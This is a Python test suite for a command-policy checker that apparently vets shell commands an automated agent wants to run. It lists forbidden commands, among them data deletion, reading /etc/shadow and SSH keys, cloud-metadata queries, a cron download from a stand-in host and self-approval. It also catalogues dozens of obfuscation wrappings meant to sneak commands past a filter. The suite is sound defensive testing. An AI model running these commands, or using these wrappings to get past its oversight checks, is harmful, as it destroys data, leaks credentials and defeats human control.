"""What is never allowed stays denied however it is wrapped; a text without sense gets an answer too."""

from __future__ import annotations

import itertools
import shlex
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from claudeops.domain.model import VerdictKind
from support.policy_cases import judged, rows

if TYPE_CHECKING:
    from collections.abc import Callable

FORBIDDEN = (
    "rm -rf /data",
    "docker rm -f web",
    "docker volume rm data",
    "docker compose down -v",
    "docker restart",
    "docker restart claudeops",
    "docker -H tcp://x ps",
    "docker inspect web",
    "docker run --privileged alpine",
    "systemctl poweroff",
    "systemctl restart networking",
    "reboot",
    "iptables -F",
    "kill -9 1",
    "cat /etc/shadow",
    "cat /root/.ssh/id_rsa",
    "cat /proc/1/environ",
    "env",
    "kubectl get secret db -o yaml",
    "kubectl delete namespace media",
    "curl -X POST http://x/",
    "curl -o /etc/cron.d/x http://x/",
    "curl http://169.254.169.254/",
    "git push --force",
    "python3 -c 1",
    "ssh -oProxyCommand=x host ls",
    "find / -name x -delete",
    "sed -i s/a/b/ /etc/hosts",
    "tee /etc/hosts",
    "claudeops approve 1",
)


def quoted(command: str) -> str:
    return shlex.quote(command)


def split_up(command: str) -> str:
    """Return the command with its name in pieces."""
    name, blank, rest = command.partition(" ")
    return f"{name[0]}'{name[1:2]}'\"{name[2:]}\"{blank}{rest}"


TRANSPARENT: dict[str, Callable[[str], str]] = {
    "itself": lambda c: c,
    "double space": lambda c: c.replace(" ", "  "),
    "continued line": lambda c: c.replace(" ", " \\\n "),
    "split name": split_up,
    "ansi name": lambda c: f"$'\\x{ord(c[0]):02x}'{c[1:]}" if c[0].isalpha() else c,
    "backslash": lambda c: f"\\{c}",
    "absolute path": lambda c: f"/usr/bin/{c}",
    "sudo": lambda c: f"sudo {c}",
    "sudo user": lambda c: f"sudo -n -u root -- {c}",
    "env": lambda c: f"env LC_ALL=C {c}",
    "assignment": lambda c: f"LC_ALL=C {c}",
    "nice": lambda c: f"nice -n 5 {c}",
    "timeout": lambda c: f"timeout -k 5 30 {c}",
    "nohup": lambda c: f"nohup {c}",
    "time": lambda c: f"time {c}",
    "command": lambda c: f"command {c}",
    "after cd": lambda c: f"cd /srv && {c}",
    "after semicolon": lambda c: f"uptime; {c}",
    "after newline": lambda c: f"uptime\n{c}",
    "after comment": lambda c: f"uptime # {c}\n{c}",
    "after or": lambda c: f"uptime || {c}",
    "before pipe": lambda c: f"{c} | cat",
    "after pipe": lambda c: f"uptime | {c}",
    "subshell": lambda c: f"({c})",
    "group": lambda c: f"{{ {c}; }}",
    "negated": lambda c: f"! {c}",
    "if": lambda c: f"if {c}; then uptime; fi",
    "then": lambda c: f"if uptime; then {c}; fi",
    "else": lambda c: f"if uptime; then uptime; else {c}; fi",
    "for": lambda c: f"for i in 1 2; do {c}; done",
    "case": lambda c: f"case a in b) uptime;; *) {c};; esac",
    "function": lambda c: f"f() {{ {c}; }}; f",
    "substitution": lambda c: f"echo $({c})",
    "quoted substitution": lambda c: f'echo "now: $({c})"',
    "substitution in a substitution": lambda c: f'echo "$(echo "$({c})")"',
    "process substitution": lambda c: f"cat <({c})",
    "output substitution": lambda c: f"uptime > >({c})",
    "assigned": lambda c: f"x=$({c}); uptime",
    "tested": lambda c: f'[ -n "$({c})" ]',
    "double test": lambda c: f"[[ -n $({c}) ]]",
    "here-document": lambda c: f"cat <<EOF\n$({c})\nEOF",
    "here-string": lambda c: f'cat <<< "$({c})"',
    "after here-document": lambda c: f"cat <<'EOF'\nx\nEOF\n{c}",
    "bash -c": lambda c: f"bash -c {quoted(c)}",
    "sh -ec": lambda c: f"sh -ec {quoted(f'uptime; {c}')}",
    "bash document": lambda c: f"bash <<'EOF'\n{c}\nEOF",
    "bash string": lambda c: f"bash <<< {quoted(c)}",
    "eval": lambda c: f"eval {quoted(c)}",
    "ssh": lambda c: f"ssh -o BatchMode=yes root@host {quoted(c)}",
    "ssh document": lambda c: f"ssh host bash -s <<'EOF'\n{c}\nEOF",
    "docker exec": lambda c: f"docker exec -i web sh -c {quoted(c)}",
    "kubectl exec": lambda c: f"kubectl exec -n media web-0 -- sh -c {quoted(c)}",
    "known variable": lambda c: f"x=1; {c}",
    "discarded": lambda c: f"{c} > /dev/null 2>&1",
}
"""Ways that run a command as it is: what may run stays allowed, what may not stays denied."""

OPAQUE: dict[str, Callable[[str], str]] = {
    "echo into a shell": lambda c: f"echo {quoted(c)} | bash",
    "decoded into a shell": lambda c: f"echo {c.encode().hex()} | xxd -r -p | sh",
    "variable from the environment": lambda c: f'bash -c "$X" {quoted(c)}',
    "substitution as command": lambda c: f"$(echo {quoted(c)})",
    "background": lambda c: f"{c} &",
    "trap": lambda c: f"trap {quoted(c)} EXIT",
    "alias": lambda c: f"alias ls={quoted(c)}; ls",
    "exec": lambda c: f"exec {c}",
    "coproc": lambda c: f"coproc {c}",
    "setsid": lambda c: f"setsid {c}",
    "env -S": lambda c: f"env -S {quoted(c)}",
    "xargs": lambda c: f"echo x | xargs {c}",
    "xargs shell": lambda c: f"echo x | xargs -I% sh -c {quoted(c + ' %')}",
    "python": lambda c: f"python3 -c {quoted(f'import os; os.system({c!r})')}",
    "awk": lambda c: f"awk 'BEGIN {{ system(\"{c}\") }}'",
    "tee": lambda c: f"echo {quoted(c)} | tee >(bash)",
    "path": lambda c: f"PATH=/work/s1 {c}",
    "exported": lambda c: f"export PATH=/work/s1; {c}",
    "parameter default": lambda c: f"x=1; echo ${{y:-$({c})}}",
    "parameter pattern": lambda c: f"x=1; echo ${{x#$({c})}}",
    "array index": lambda c: f"x[$({c})]=1",
    "arithmetic": lambda c: f"echo $(( $({c}) ))",
    "at": lambda c: f"at now <<< {quoted(c)}",
    "busybox": lambda c: f"busybox {c}",
    "su": lambda c: f"su -c {quoted(c)}",
    "watch": lambda c: f"watch {quoted(c)}",
    "ssh option": lambda c: f"ssh -o {quoted(f'ProxyCommand={c}')} host uptime",
    "command not found": lambda c: f"command_not_found_handle() {{ {c}; }}; nosuch",
    "shadowed": lambda c: f"uptime() {{ {c}; }}; time uptime",
    "carriage return": lambda c: f"uptime\r{c}",
    "tar": lambda c: f"tar cf /x /y --checkpoint=1 --checkpoint-action=exec={quoted(c)}",
}
"""Ways that nothing may use."""

REPEATING: dict[str, Callable[[str], str]] = {
    "while": lambda c: f"while uptime; do {c}; done",
    "until": lambda c: f"until uptime; do {c}; done",
    "for of unknown length": lambda c: f"for i in $(uptime); do {c}; done",
    "find": lambda c: f"find /srv -name x -exec {c} \\;",
    "piped into a loop": lambda c: f"uptime | while read -r line; do {c}; done",
}
"""Ways that run a command nobody knows how often: looks may pass, actions may not."""

ALL = {**TRANSPARENT, **OPAQUE, **REPEATING}


def allowed(command: str) -> bool:
    return judged(command, 3).kind is VerdictKind.ALLOW


def test_no_wrapping_lets_a_forbidden_command_through() -> None:
    texts = [wrap(command) for wrap in ALL.values() for command in FORBIDDEN]
    assert len(texts) > 2_000
    assert [text for text in texts if allowed(text)] == []


def test_no_two_wrappings_let_a_forbidden_command_through() -> None:
    pairs = itertools.product(ALL.values(), TRANSPARENT.values())
    commands = itertools.cycle(FORBIDDEN)
    texts = [outer(inner(command)) for (outer, inner), command in zip(pairs, commands, strict=False)]
    assert len(texts) > 4_000
    assert [text for text in texts if allowed(text)] == []


@pytest.mark.parametrize("wrapping", OPAQUE)
def test_what_cannot_be_seen_through_is_denied_for_harmless_commands_too(wrapping: str) -> None:
    assert not allowed(OPAQUE[wrapping]("docker ps"))


@pytest.mark.parametrize("wrapping", TRANSPARENT)
def test_what_can_be_seen_through_lets_harmless_commands_pass(wrapping: str) -> None:
    assert judged(TRANSPARENT[wrapping]("docker ps"), 1).kind is VerdictKind.ALLOW


@pytest.mark.parametrize("wrapping", REPEATING)
def test_an_action_that_may_repeat_is_denied(wrapping: str) -> None:
    assert allowed(REPEATING[wrapping]("docker ps"))
    assert not allowed(REPEATING[wrapping]("docker restart web"))


@pytest.mark.parametrize("wrapping", TRANSPARENT)
def test_an_action_is_counted_through_every_wrapping(wrapping: str) -> None:
    verdict = judged(TRANSPARENT[wrapping]("docker restart web"), 2)
    assert {action.service for action in verdict.actions} == {"web"}, verdict.reason
    assert judged(TRANSPARENT[wrapping]("docker restart web"), 1).kind is VerdictKind.DENY


@given(
    command=st.sampled_from(FORBIDDEN),
    wrappings=st.lists(st.sampled_from(sorted(ALL)), min_size=1, max_size=4),
    around=st.sampled_from(["", "uptime; ", "docker ps | grep web && "]),
)
def test_no_stack_of_wrappings_lets_a_forbidden_command_through(
    command: str, wrappings: list[str], around: str
) -> None:
    text = command
    for wrapping in wrappings:
        text = ALL[wrapping](text)
    assert not allowed(around + text)


PIECES = (
    *"'\"\\`$(){}[]<>|&;#*?!~=\n\t ",
    *(
        "$(",
        "${",
        "$((",
        "<<E\n",
        "\nE\n",
        "2>&1",
        "<(",
        "do",
        "done",
        "if",
        "then",
        "fi",
        "case",
        "esac",
        "in",
        "[[",
        "]]",
    ),
    *(
        "docker",
        "restart",
        "web",
        "--format",
        "{{.Names}}",
        "/etc/shadow",
        "-f",
        "ssh host",
        "bash -c",
        "sudo",
        "x=1",
        "$x",
    ),
)


@given(st.lists(st.sampled_from(PIECES), max_size=12).map(" ".join) | st.lists(st.sampled_from(PIECES)).map("".join))
def test_a_text_without_sense_gets_an_answer(text: str) -> None:
    assert judged(text, 3).reason


@given(st.sampled_from(rows("harmless.txt")), st.integers(min_value=0), st.sampled_from(PIECES))
def test_a_damaged_command_gets_an_answer(command: str, at: int, piece: str) -> None:
    cut = at % (len(command) + 1)
    assert judged(command[:cut] + piece + command[cut:], 3).reason
